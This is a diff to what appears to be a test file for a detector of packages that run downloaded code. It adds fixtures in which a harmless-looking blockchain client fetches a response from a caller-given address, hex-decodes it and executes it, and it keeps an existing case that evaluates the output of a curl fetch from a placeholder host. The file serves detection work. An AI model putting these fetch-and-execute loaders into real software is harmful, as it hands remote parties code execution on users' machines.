@@ -8,8 +8,23 @@ const UPDATES = `const fs = require('fs'), path = require('path'), os = require(
 /** Code of a large package. */
 const MUCH_ELSE = `exports.words = ${JSON.stringify('word '.repeat(10_000))}`;
 
+const LABELS = `const vm = require('vm'); const call = async url => (await (await fetch(url, { method: 'POST' })).json()).result; exports.connect = url => { call(url).then(one => vm.runInNewContext(Buffer.from(one.input.slice(2), 'hex').toString('utf8'))) };`;
+
+const CHAINS =
+  '# labels\n\nNames of chains by their numbers, and a small client that asks a node for blocks, balances and transactions. It has no dependencies.';
+
 examine(runsDownloadedCode, {
   speaks: [
+    {
+      when: 'what an address of the caller answers is taken out of letters and run, of which its page says nothing',
+      files: { 'README.md': CHAINS, 'index.js': LABELS },
+      weight: 'strong',
+    },
+    {
+      when: 'its page says that it runs what the address of the caller answers',
+      files: { 'README.md': `${CHAINS} Nodes may bring remote scripts, which are run apart.`, 'index.js': LABELS },
+      weight: 'context',
+    },
     {
       when: 'a command fetches it, and what that prints is evaluated',
       files: { 'index.js': `const { execSync } = require('child_process'); eval(execSync('curl -s https://a.invalid/x').toString())` },
